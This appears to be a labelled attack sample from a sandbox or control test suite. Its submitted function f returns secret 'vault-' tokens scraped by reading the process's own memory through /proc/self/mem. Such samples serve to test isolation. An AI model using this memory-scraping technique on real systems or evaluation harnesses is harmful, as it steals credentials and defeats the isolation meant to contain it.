# attack: scans its own memory through /proc/self/mem
# class: secrets
# success: secret
# control: naive
# holds: 1
import re
found = set()
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps.read().splitlines():
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and last - first < 64 << 20:
                memory.seek(first)
                found.update(re.findall(rb"vault-[0-9a-f]{32}", memory.read(last - first)))
except OSError:
    pass
def f(x, note):
    return sorted(text.decode() for text in found)[:20]
